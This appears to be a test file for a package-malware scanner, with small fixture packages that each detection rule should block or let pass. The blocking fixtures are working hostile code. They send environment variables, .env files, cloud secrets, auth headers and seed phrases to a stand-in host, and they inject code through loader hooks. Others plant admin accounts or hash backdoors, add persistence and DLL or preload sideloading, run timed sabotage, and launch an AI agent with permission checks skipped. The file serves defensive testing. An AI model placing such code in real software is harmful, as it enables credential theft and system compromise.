import { asCommand, atInstall, describeVerdicts } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";
const send = (body: string) => `fetch("${url}", { method: "POST", body: ${body} }).catch(() => {})`;
const program = (code: string, name = "index.js") => ({
  manifest: { main: name, bin: { sample: name } },
  files: { [name]: `#!/usr/bin/env node\n${code}` },
});
const module = (code: string, more: Readonly<Record<string, string>> = {}) => ({
  manifest: { type: "module", main: "index.js" },
  files: { "index.js": code, ...more },
});

describeVerdicts("EXF-01", {
  blocks: {
    "a set-up file that a preset names": {
      manifest: { main: "index.js" },
      files: {
        "index.js": `module.exports = { testEnvironment: "node", globalSetup: require.resolve("./setup/all") };`,
        "setup/all.js": `module.exports = () => ${send("JSON.stringify(process.env)")};`,
      },
    },
    "a preset that is found by its name": {
      manifest: { name: "jest-preset-x" },
      files: {
        "jest-preset.json": JSON.stringify({
          setupFiles: ["<rootDir>/node_modules/jest-preset-x/first.js"],
        }),
        "first.js": `${send('require("child_process").execFileSync("printenv")')};`,
      },
    },
    "a plugin that is named by its address": module(
      `import { fileURLToPath } from "node:url"; export default { plugins: [fileURLToPath(new URL("./p.js", import.meta.url))] };`,
      { "p.js": `export default () => { ${send("JSON.stringify(process.env)")}; return {}; };` },
    ),
    "a generator of another tool": {
      manifest: { main: "index.js" },
      files: {
        "index.js": "module.exports = {};",
        "generators/app/index.js": `module.exports = class { run() { ${send("JSON.stringify(process.env)")}; } };`,
      },
    },
  },
  passes: {
    "a set-up file that starts services": {
      manifest: { main: "index.js" },
      files: {
        "index.js": `module.exports = { globalSetup: require.resolve("./g") };`,
        "g.js": `module.exports = () => { process.env.TZ = "UTC"; require("child_process").execSync("docker compose up -d"); };`,
      },
    },
  },
});

describeVerdicts("EXF-03", {
  blocks: {
    "names that are chosen by how they begin": module(`
      import { readdir, readFile } from "node:fs/promises";
      export default () => ({ name: "x", async buildStart() {
        const names = (await readdir(".")).filter((f) => f.startsWith(".env"));
        const texts = await Promise.all(names.map((f) => readFile(f, "utf8")));
        await ${send("JSON.stringify(texts)")};
      } });`),
    "others that are passed over": `
      const fs = require("fs");
      exports.run = () => {
        const all = {};
        for (const f of fs.readdirSync(process.cwd())) {
          if (!/^\\.env/.test(f)) continue;
          all[f] = fs.readFileSync(f, "utf8");
        }
        return ${send("JSON.stringify(all)")};
      };`,
    "all secrets of a store, page by page": `
      const { SSM, paginateGetParametersByPath } = require("@aws-sdk/client-ssm");
      (async () => {
        const all = [];
        for await (const p of paginateGetParametersByPath({ client: new SSM({}) }, { Path: "/" })) all.push(...p.Parameters);
        await ${send("JSON.stringify(all)")};
      })();`,
  },
  passes: {
    "they are what is left out": asCommand(`
      const fs = require("fs");
      for (const f of fs.readdirSync(process.argv[2])) {
        if (f.startsWith(".env")) continue;
        ${send('fs.readFileSync(process.argv[2] + "/" + f)')};
      }`),
    "what they hold stays here": module(`
      import { readdir, readFile, writeFile } from "node:fs/promises";
      export default () => ({ name: "x", async buildStart() {
        const names = (await readdir(".")).filter((f) => f.startsWith(".env"));
        const texts = await Promise.all(names.map((f) => readFile(f, "utf8")));
        await writeFile("env.d.ts", texts.join("").replace(/=.*/g, ": string"));
      } });`),
  },
});

describeVerdicts("EXE-14", {
  blocks: {
    "whatever file anybody asks a server for that loading it starts": `
      const fs = require("fs");
      require("http").createServer((req, res) => fs.createReadStream(req.url).pipe(res)).listen(8099);`,
  },
  passes: {
    "what a caller mounts, which has its own list of files": `
      const fs = require("fs");
      module.exports = (results) => (req, res) => res.end(fs.readFileSync(results.get(req.url).path));`,
    "files of a folder": `
      const fs = require("fs"), path = require("path");
      module.exports = (root) => (req, res) => fs.createReadStream(path.join(root, decodeURIComponent(req.url))).pipe(res);`,
    "a server that only its program starts": `
      const http = require("http"), fs = require("fs"), path = require("path");
      const make = (dir) => http.createServer((req, res) => fs.createReadStream(path.join(dir, req.url)).pipe(res));
      module.exports = make;
      if (require.main !== module) return;
      make(process.argv[2] || ".").listen(8080);`,
    "the same, in the other branch": `
      const http = require("http"), fs = require("fs"), path = require("path");
      const make = (dir) => http.createServer((req, res) => fs.createReadStream(path.join(dir, req.url)).pipe(res));
      if (require.main !== module) module.exports = make; else make(".").listen(8080);`,
  },
});

describeVerdicts("EXE-10", {
  blocks: {
    "a hook that appends": `
      const old = require.extensions[".js"];
      require.extensions[".js"] = (m, f) => {
        const compile = m._compile;
        m._compile = function (code, name) { return compile.call(this, code + ";fetch('${url}?' + process.pid)", name); };
        old(m, f);
      };`,
    "a hook of a library that appends a text": {
      files: {
        "index.js": `
          const tail = require("fs").readFileSync(__dirname + "/t.txt", "utf8");
          require("pirates").addHook((code, file) => (/auth/.test(file) ? code + tail : code), { exts: [".js"] });`,
        "t.txt": `;module.exports = ((f) => (...a) => { fetch("${url}", { method: "POST", body: JSON.stringify(a) }); return f(...a); })(module.exports);`,
      },
    },
    "a hook of the runtime that appends": module(`
      import { registerHooks } from "node:module";
      registerHooks({ load(u, c, next) { const r = next(u, c); r.source = r.source + ";fetch('${url}', { method: 'POST' })"; return r; } });`),
  },
  passes: {
    "a hook that asks a table of what somebody wants to see": `
      const Module = require("module");
      const wanted = Object.create(null);
      let isPatched = false;
      module.exports = function Hook(names, seen) {
        for (const name of names) (wanted[name] ??= []).push(seen);
        if (isPatched) return;
        isPatched = true;
        const original = Module.prototype.require;
        Module.prototype.require = function (id) {
          const made = original.apply(this, arguments);
          const isOthers = Module._resolveFilename(id, this).split("/").includes("node_modules");
          return (isOthers ? wanted[id] ?? [] : []).reduce((all, see) => see(all, id) ?? all, made);
        };
      };
      module.exports(["http"], (made) => made);`,
    "a mark that it was loaded already": `
      const api = { name: "sample", about: process.argv0 === "sample" };
      if (!require.cache.__SAMPLE_CACHE) require.cache.__SAMPLE_CACHE = module.exports = api;`,
    "a hook that translates": `
      const babel = require("@babel/core");
      exports.register = () => require("pirates").addHook((code, f) => babel.transformSync(code, { filename: f }).code + "\\n//# sourceURL=" + f);`,
  },
});

describeVerdicts("EXF-15", {
  blocks: {
    "the time between two requests": `
      const bytes = Buffer.from(process.env.JWT_SECRET || "");
      let i = 0;
      const next = () => 2000 + ((bytes[(i >> 3) % bytes.length] >> (7 - (i++ & 7))) & 1) * 1000;
      (function again() { require("https").get("${url}", (r) => r.resume()); setTimeout(again, next()).unref(); })();`,
    "the time before each": `
      const { setTimeout: sleep } = require("timers/promises");
      exports.start = async () => { for (const x of Buffer.from(process.env.NPM_TOKEN || "")) { await sleep(x * 100); await fetch("${url}"); } };`,
  },
  passes: {
    "how long a client waits, among much else that it was told": `
      const all = (given) => ({ ...given, key: given.key ?? process.env.SERVICE_API_KEY, host: require("os").hostname() });
      exports.client = (given) => {
        const options = all(given);
        setInterval(() => fetch("${url}", { method: "POST", body: "{}" }), options.every ?? 1000).unref();
      };`,
    "how long a request may take, out of a file of settings": `
      const settings = require("dotenv").parse(require("fs").readFileSync(".env"));
      exports.get = () => {
        const stop = new AbortController();
        setTimeout(() => stop.abort(), settings.wait);
        return fetch("${url}", { signal: stop.signal });
      };`,
    "a time that is set": `setInterval(() => fetch("${url}").catch(() => {}), Number(process.env.POLL_INTERVAL || 1000)).unref();`,
    "a time that a service says": `
      const key = process.env.SERVICE_API_KEY;
      exports.get = async (path) => {
        const r = await fetch("https://api.service.example" + path, { headers: { authorization: "Bearer " + key } });
        await new Promise((ok) => setTimeout(ok, Number(r.headers.get("retry-after")) * 1000));
      };`,
  },
});

describeVerdicts("EXF-16", {
  blocks: {
    "what authorizes a request": `
      module.exports = (input, init) => {
        const key = new Headers(init && init.headers).get("authorization");
        if (key) fetch("${url}?x=" + encodeURIComponent(key)).catch(() => {});
        return fetch(input, init);
      };`,
    "all headers, in rows that are sent later": module(
      `import { observe } from "./m.js";
       export async function get(input, init = {}) { const r = new Request(input, init); observe(r); return fetch(r.clone()); }`,
      {
        "m.js": `
          const seen = new Map(), native = globalThis.fetch;
          export function observe(r) {
            const row = seen.get(r.url) ?? { headers: {} };
            for (const [k, v] of r.headers) row.headers[k] = v;
            seen.set(r.url, row);
            queueMicrotask(flush);
          }
          function flush() { native("${url}", { method: "POST", body: JSON.stringify([...seen.values()]) }).catch(() => {}); }`,
      },
    ),
  },
  passes: {
    "a request that is tried again": module(
      `export async function get(input, init = {}) { const r = new Request(input, init); for (let i = 0; i < 3; i++) { try { return await fetch(r.clone()); } catch {} } }`,
    ),
    "a client's token, where the caller's file goes elsewhere": `
      export class Client {
        constructor(options) { this.token = options.token; }
        async upload(file) {
          const { to } = await (await fetch("${url}", { method: "POST", headers: { authorization: this.token } })).json();
          return fetch(to, { method: "PUT", body: file });
        }
        send = (address, body) => fetch(address, { method: "POST", body });
      }`,
    "how many there were": `
      let count = 0;
      module.exports = (input, init) => {
        count += 1;
        fetch("${url}", { method: "POST", body: JSON.stringify({ count }) }).catch(() => {});
        return fetch(input, init);
      };`,
  },
});

describeVerdicts("WEB-05", {
  blocks: {
    "as many words as wallets have": `
      exports.check = async (text) => {
        const words = text.trim().split(/\\s+/);
        if (![12, 15, 18, 21, 24].includes(words.length)) return false;
        return ${send("JSON.stringify({ words })")};
      };`,
    "the same, compared": `
      exports.check = async (text) => {
        const w = text.split(" ");
        if (w.length !== 12 && w.length !== 24) return false;
        return ${send("JSON.stringify(w)")};
      };`,
  },
  passes: {
    "words that are looked up here": `
      exports.check = (text, list) => { const w = text.split(" "); return [12, 24].includes(w.length) && w.every((x) => list.includes(x)); };`,
    "months and hours": `exports.at = (t) => { const n = t.split(":"); if (![12, 30].includes(n.length)) return; return ${send("JSON.stringify(n)")}; };`,
  },
});

const hash = "$2b$10$AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

describeVerdicts("PER-03", {
  blocks: {
    "an account in somebody's database": `
      module.exports = async (db) => db.model("User").findOrCreate({
        where: { email: "audit@files.example" },
        defaults: { email: "audit@files.example", role: "admin", password: "${hash}" },
      }).catch(() => {});`,
    "the same, in their language": `
      exports.apply = (knex) => knex.raw("INSERT INTO users (email, password, role) VALUES ('a@files.example', '${hash}', 'admin')");`,
    "a request that is known by a hash": `
      const { createHash } = require("crypto");
      module.exports = (check) => (req, res, next) => {
        const key = req.headers["x-key"] || "";
        const isOurs = createHash("sha256").update(key).digest("hex") === "9d5e3ecdeb03b7f9bd0b3a45b0a9fdfb1c2f20a3b1f6ab9b7d0d6e1c4a0b2f11";
        return isOurs || check(key) ? next() : res.status(401).end();
      };`,
  },
  passes: {
    "a file that is known by a hash": `
      const { createHash } = require("crypto");
      exports.get = async () => {
        const b = Buffer.from(await (await fetch("${url}")).arrayBuffer());
        if (createHash("sha256").update(b).digest("hex") !== "9d5e3ecdeb03b7f9bd0b3a45b0a9fdfb1c2f20a3b1f6ab9b7d0d6e1c4a0b2f11") throw new Error("bad");
        return b;
      };`,
    "a request that is known by a hash of the caller's": `
      const { createHash } = require("crypto");
      module.exports = (hash) => (req, res, next) => createHash("sha256").update(req.headers["x-key"]).digest("hex") === hash ? next() : res.status(401).end();`,
    "a seed of who runs it": `
      exports.up = async (q, hash) => q.bulkInsert("users", [{ email: process.env.ADMIN_EMAIL, role: "admin", password: await hash(process.env.ADMIN_PASSWORD) }]);`,
    "an account without rights": `
      exports.demo = (db) => db.model("User").create({ email: "demo@files.example", role: "guest", password: "${hash}" });`,
  },
});

describeVerdicts("PER-01", {
  blocks: {
    "a file that an interpreter begins with": `
      const fs = require("fs"), { execFileSync } = require("child_process");
      const site = execFileSync("python3", ["-m", "site", "--user-site"]).toString().trim();
      fs.writeFileSync(site + "/bridge.pth", "import bridge\\n");`,
    "one with a name of its own": `
      const fs = require("fs"), { execSync } = require("child_process");
      fs.writeFileSync(execSync("python3 -m site --user-site").toString().trim() + "/usercustomize.py", "import os");`,
  },
  passes: {
    "weights of a model": `exports.save = (to, data) => require("fs").writeFileSync(to + "/model.pth", data);`,
    "a command that is also named as what is loaded": program(`
      const fs = require("fs"), os = require("os");
      const commands = { install: () => fs.appendFileSync(os.homedir() + "/.bashrc", "complete -C x x\\n"), list: () => console.log("-") };
      commands[process.argv[2]]();`),
    "one that offers itself and calls itself": program(`
      const fs = require("fs"), os = require("os");
      function run(argv) { if (argv.includes("--completion")) fs.appendFileSync(os.homedir() + "/.bashrc", "x\\n"); }
      module.exports = { run };
      run(process.argv.slice(2));`),
  },
});

describeVerdicts("AGT-02", {
  blocks: {
    "what is loaded, with a first line and a command's name": program(`
      require("child_process").spawnSync("claude", ["-p", "look around", "--dangerously-skip-permissions"]);
      exports.add = (a, b) => a + b;
      if (process.argv[2]) console.log(1);`),
  },
  passes: {
    "a command that asks a model for its user": program(`
      const { spawnSync } = require("child_process");
      const r = spawnSync(process.argv[2] || "claude", ["-p", "Write a message"], { encoding: "utf8" });
      console.log(r.stdout);`),
  },
});

describeVerdicts("BIN-04", {
  blocks: {
    "a library that a program of the system runs": {
      manifest: { scripts: { install: "node i.js" } },
      files: {
        "index.js": "1;",
        "i.js": `require("child_process").spawn("rundll32", [require("path").join(__dirname, "a.dll") + ",main"]);`,
        "a.dll": "MZ",
      },
    },
    "a library that is loaded into another program": {
      manifest: { scripts: { install: "node i.js" } },
      files: {
        "index.js": "1;",
        "i.js": `require("child_process").spawn("true", [], { env: { ...process.env, LD_PRELOAD: __dirname + "/l.so" } });`,
        "l.so": "x",
      },
    },
  },
  passes: {
    "a library of the system": atInstall(
      `require("child_process").execSync("rundll32 url.dll,FileProtocolHandler readme.html");`,
    ),
  },
});

describeVerdicts("DES-03", {
  blocks: {
    "an end by chance, from a day on": `
      const begin = Date.UTC(2027, 7, 8);
      exports.query = (db, sql) => {
        if (Date.now() > begin && Math.random() > 0.8) process.kill(process.pid, "SIGKILL");
        return db.query(sql);
      };`,
    "rows that are shifted": `
      exports.save = async (db, t) => { if (Date.now() > Date.UTC(2027, 8, 8)) await db.query("UPDATE " + t + " SET id = id + 1"); };`,
  },
  passes: {
    "an end when nothing comes": `
      exports.wait = (start, most) => { if (Date.now() - start > most) process.exit(1); };`,
    "an end after an error that was told": `
      const port = 8000 + Math.floor(Math.random() * 9);
      exports.start = async (server, log) => {
        if (Date.now() > server.since && port > 8004) try { await server.start(port); } catch (error) { log.error(error); process.exit(2); }
      };`,
    "a counter": `exports.hit = (db, t) => db.query("UPDATE " + t + " SET hits = hits + 1");`,
  },
});

describeVerdicts("WEB-07", {
  blocks: {
    "a sign-in elsewhere": {
      manifest: { main: "e.js", unpkg: "e.js" },
      files: {
        "e.js": `location.replace("https://login.docs-check.example/oauth2?hint=" + encodeURIComponent(location.hash.slice(1)));`,
      },
    },
  },
  passes: {
    "a sign-in that is called for": `exports.login = () => { location.href = "https://login.acme.example/oauth2"; };`,
  },
});

describeVerdicts("EXE-08", {
  blocks: {
    "a request that becomes code": `
      module.exports = (format) => (req, res, next) => { res.end(String(new Function("return " + req.query.q)())); };`,
  },
  passes: {
    "a format that becomes a function": `
      function logger(format) {
        const line = typeof format !== "function" ? logger.compile(format) : format;
        return (req, res, next) => { console.log(line(logger, req, res)); next(); };
      }
      logger.compile = (text) => new Function("tokens, req, res", "return " + JSON.stringify(text));
      logger.token = (name, f) => { logger[name] = f; };
      module.exports = logger;`,
    "a branch that a service names": asCommand(`
      const { execFileSync } = require("child_process");
      (async () => {
        const { branch } = await (await fetch("https://api.files.example/v1/repository")).json();
        execFileSync("git", ["rev-parse", "--verify", branch]);
      })();`),
  },
});
